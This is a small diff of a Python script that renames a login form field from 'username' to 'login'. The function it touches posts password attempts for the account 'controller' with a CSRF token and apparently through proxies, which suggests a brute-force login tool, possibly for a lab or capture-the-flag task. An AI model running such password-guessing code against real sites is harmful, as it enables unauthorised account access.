@@ -28,7 +28,7 @@ def token_of(site: str) -> str:
 
 
 def attempt(site: str, token: str, number: int, password: str, proxied: str) -> int:
-    sent = urlencode({"username": "controller", "password": password, "csrfmiddlewaretoken": token})
+    sent = urlencode({"login": "controller", "password": password, "csrfmiddlewaretoken": token})
     headers = {
         "Content-Type": "application/x-www-form-urlencoded",
         "Cookie": f"csrftoken={token}",
